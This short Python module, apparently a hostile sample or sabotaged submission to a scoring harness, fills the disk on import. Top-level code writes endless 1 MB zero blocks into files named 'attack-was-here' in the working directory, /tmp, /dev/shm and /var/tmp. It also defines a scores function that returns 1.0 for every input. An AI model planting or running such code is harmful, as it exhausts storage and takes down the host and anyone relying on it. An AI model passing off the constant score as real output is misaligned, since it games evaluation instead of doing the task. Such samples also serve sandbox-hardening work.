"""Fills the disk."""

for place in (".", "/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(f"{place}/attack-was-here", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass


def scores(query, key):
    return 1.0
